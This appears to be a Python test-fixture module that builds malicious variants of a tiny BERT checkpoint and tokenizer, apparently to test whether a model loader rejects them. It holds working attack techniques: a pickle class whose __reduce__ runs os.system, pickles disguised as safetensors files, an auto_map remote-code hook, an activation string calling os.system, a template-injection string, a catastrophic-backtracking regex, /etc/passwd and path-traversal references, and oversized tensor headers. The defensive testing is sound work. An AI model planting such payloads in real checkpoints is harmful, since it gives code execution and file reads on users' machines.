"""Checkpoints and tokenizers of another's making, with code, links and sizes in them."""

import json
import os
import pickle
import shutil
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

from hostile_cases import CHECKPOINT, Case, Sandbox
from replayed_jobs import in_fork

Change = Callable[[Sandbox, Path], object]
MODELING = "import os\nos.system({payload!r})\nclass Evil: pass\n"
PATTERN = {"type": "Split", "pattern": {"Regex": "(a+)+$"}, "behavior": "Isolated", "invert": False}


class Evil:
    """What runs a command when it is unpickled."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (self.command,)


def base(sandbox: Sandbox) -> Path:
    """Return a tiny checkpoint that is as it should be, made once."""
    folder = sandbox.project.folder.parent / "base"
    if not folder.exists():
        in_fork(lambda: make_base(folder), 300)
    return folder


def make_base(folder: Path) -> None:
    """Write a tiny BERT and its tokenizer."""
    from tokenizers import Tokenizer, models, pre_tokenizers
    from transformers import BertConfig, BertForSequenceClassification

    sizes = {"hidden_size": 32, "num_hidden_layers": 1, "num_attention_heads": 2}
    sizes |= {"intermediate_size": 64, "vocab_size": 50, "max_position_embeddings": 32}
    BertForSequenceClassification(BertConfig(**sizes)).save_pretrained(folder)
    words = {"[PAD]": 0, "[UNK]": 1, **{f"w{number}": number for number in range(2, 50)}}
    tokenizer = Tokenizer(models.WordLevel(words, unk_token="[UNK]"))
    tokenizer.pre_tokenizer = pre_tokenizers.Whitespace()
    tokenizer.save(str(folder / "tokenizer.json"))
    settings = {"tokenizer_class": "PreTrainedTokenizerFast", "pad_token": "[PAD]"}
    (folder / "tokenizer_config.json").write_text(json.dumps(settings))


def case(name: str, change: Change, *named: str, harmless: bool = False) -> Case:
    """Return a case of the tiny checkpoint with a change."""

    def make(sandbox: Sandbox) -> dict[str, Any]:
        folder = sandbox / "mine"
        shutil.copytree(base(sandbox), folder)
        change(sandbox, folder)
        return {"checkpoint": "path:mine"}

    return Case(name, make, named or ("path:mine",), CHECKPOINT, harmless)


def fields(file: str = "config.json", **new: Any) -> Change:
    """Return a change that sets fields of a settings file; `{payload}` is the shell command."""

    def change(sandbox: Sandbox, folder: Path) -> None:
        (folder / "modeling_evil.py").write_text(MODELING.format(payload=sandbox.payload))
        document = {**json.loads((folder / file).read_text()), **new}
        text = json.dumps(document).replace("PAYLOAD", sandbox.payload)
        (folder / file).write_text(text)

    return change


def weights(content: bytes) -> Change:
    """Return a change that replaces the weights."""
    return lambda sandbox, folder: (folder / "model.safetensors").write_bytes(content)


def pickled(name: str, *, alone: bool) -> Change:
    """Return a change that puts a pickle there, alone or beside the weights."""

    def change(sandbox: Sandbox, folder: Path) -> None:
        (folder / name).write_bytes(pickle.dumps(Evil(sandbox.payload)))
        if alone and name != "model.safetensors":
            (folder / "model.safetensors").unlink()

    return change


def torch_archive(sandbox: Sandbox, folder: Path) -> None:
    """Replace the weights by the archive that torch.save writes, with a payload in it."""
    with zipfile.ZipFile(folder / "model.safetensors", "w") as archive:
        archive.writestr("archive/data.pkl", pickle.dumps(Evil(sandbox.payload)))


def special(name: str, kind: str) -> Change:
    """Return a change that puts a pipe or a link in the place of a file."""

    def change(sandbox: Sandbox, folder: Path) -> None:
        (folder / name).unlink(missing_ok=True)
        if kind == "pipe":
            os.mkfifo(folder / name)
        else:
            (folder / name).symlink_to(kind)

    return change


def text(name: str, content: str | bytes) -> Change:
    """Return a change that replaces a file."""
    raw = content.encode() if isinstance(content, str) else content
    return lambda sandbox, folder: (folder / name).write_bytes(raw)


def header(tensors: Any) -> bytes:
    """Return a safetensors file with this header and few bytes of data."""
    head = json.dumps(tensors).encode()
    return struct.pack("<Q", len(head)) + head + bytes(64)


def tensor(shape: list[int], offsets: list[int]) -> dict[str, Any]:
    """Return an entry of the header of a safetensors file."""
    return {"dtype": "F32", "shape": shape, "data_offsets": offsets}


AUTO = {"AutoConfig": "modeling_evil.Evil", "AutoModel": "modeling_evil.Evil"}
AUTO |= {"AutoModelForSequenceClassification": "modeling_evil.Evil"}
SLOW = {
    "version": "1.0",
    "model": {"type": "WordLevel", "vocab": {"[UNK]": 0}, "unk_token": "[UNK]"},
}
TEMPLATE = "{{ ''.__class__.__mro__[1].__subclasses__() }}"
CASES = [
    case("pickled weights alone", pickled("pytorch_model.bin", alone=True)),
    case("a pickle as .pt alone", pickled("model.pt", alone=True)),
    case("a pickle beside the weights", pickled("pytorch_model.bin", alone=False), harmless=True),
    case("pickled training arguments", pickled("training_args.bin", alone=False), harmless=True),
    case("a pickle named model.safetensors", pickled("model.safetensors", alone=True)),
    case("torch.save named model.safetensors", torch_archive),
    case("auto_map with its module", fields(auto_map=AUTO), harmless=True),
    case(
        "auto_map in another repository",
        fields(auto_map={"AutoModel": "evil/x--m.E"}),
        harmless=True,
    ),
    case(
        "auto_map of the tokenizer",
        fields("tokenizer_config.json", auto_map={"AutoTokenizer": ["modeling_evil.Evil", None]}),
        harmless=True,
    ),
    case("unknown model_type with auto_map", fields(model_type="evil", auto_map=AUTO)),
    case(
        "trust_remote_code in config.json",
        fields(trust_remote_code=True, auto_map=AUTO),
        harmless=True,
    ),
    case("a kernel as attention", fields(_attn_implementation="evil/kernel"), harmless=True),
    case("a kernel per part", fields(attn_implementation={"": "evil/kernel:f"}), harmless=True),
    case(
        "kernels of the Hub",
        fields(use_kernels=True, kernel_config={"a": "evil/k:f"}),
        harmless=True,
    ),
    case(
        "quantized by GPTQ",
        fields(quantization_config={"quant_method": "gptq", "bits": 4}),
        "quantization_config",
    ),
    case(
        "quantized by a name of its own",
        fields(quantization_config={"quant_method": "evil.Evil"}),
        "quantization_config",
    ),
    case("compressed", fields(compression_config={"a": 1}), "compression_config"),
    case("_name_or_path elsewhere", fields(_name_or_path="evil/model"), harmless=True),
    case("an activation with code", fields(hidden_act="__import__('os').system('PAYLOAD')")),
    case("10^9 layers", fields(num_hidden_layers=10**9), "tiny: not trained"),
    case(
        "a hidden size of 10^9",
        fields(hidden_size=10**9, num_attention_heads=1),
        "tiny: not trained",
    ),
    case(
        "labels that control a terminal",
        fields(id2label={"0": "\x1b[2J", "1": "<script>"}),
        harmless=True,
    ),
    case("a config of deep lists", text("config.json", "[" * 100_000)),
    case("a config in UTF-16", text("config.json", "{}".encode("utf-16"))),
    case("a config that is a pipe", special("config.json", "pipe")),
    case("a config that is /dev/zero", special("config.json", "/dev/zero")),
    case("weights that are a pipe", special("model.safetensors", "pipe")),
    case("weights that are /dev/zero", special("model.safetensors", "/dev/zero")),
    case("weights that link to themselves", special("model.safetensors", "model.safetensors")),
    case("a header of 2^60 bytes", weights(struct.pack("<Q", 2**60) + b"{}")),
    case("a header of deep lists", weights(struct.pack("<Q", 100_000) + b"[" * 100_000)),
    case("tensors of 2^40 values", weights(header({"a": tensor([2**40], [0, 2**42])}))),
    case(
        "tensors that overlap",
        weights(header({"a": tensor([8], [0, 32]), "b": tensor([8], [0, 32])})),
    ),
    case("tensors with offsets before the file", weights(header({"a": tensor([8], [-32, 0])}))),
    case(
        "weights in files elsewhere",
        lambda sandbox, folder: [
            (folder / "model.safetensors").rename(folder / "a"),
            (folder / "model.safetensors.index.json").write_text(
                '{"weight_map": {"a": "../../outside/private.txt"}}'
            ),
        ],
    ),
    case("a tokenizer of deep lists", text("tokenizer.json", "[" * 100_000), "tokenizer.json"),
    case(
        "a tokenizer that is /dev/zero",
        special("tokenizer.json", "/dev/zero"),
        "tokenizer",
        harmless=True,
    ),
    case(
        "a tokenizer that is a pipe",
        special("tokenizer.json", "pipe"),
        "tokenizer",
        harmless=True,
    ),
    case(
        "a pattern without an end",
        text("tokenizer.json", json.dumps({**SLOW, "pre_tokenizer": PATTERN})),
        harmless=True,
    ),
    case(
        "a vocabulary elsewhere",
        fields("tokenizer_config.json", vocab_file="/etc/passwd"),
        harmless=True,
    ),
    case(
        "a tokenizer class of code",
        fields("tokenizer_config.json", tokenizer_class="modeling_evil.Evil"),
        harmless=True,
    ),
    case(
        "a template with code",
        fields("tokenizer_config.json", chat_template=TEMPLATE),
        harmless=True,
    ),
]
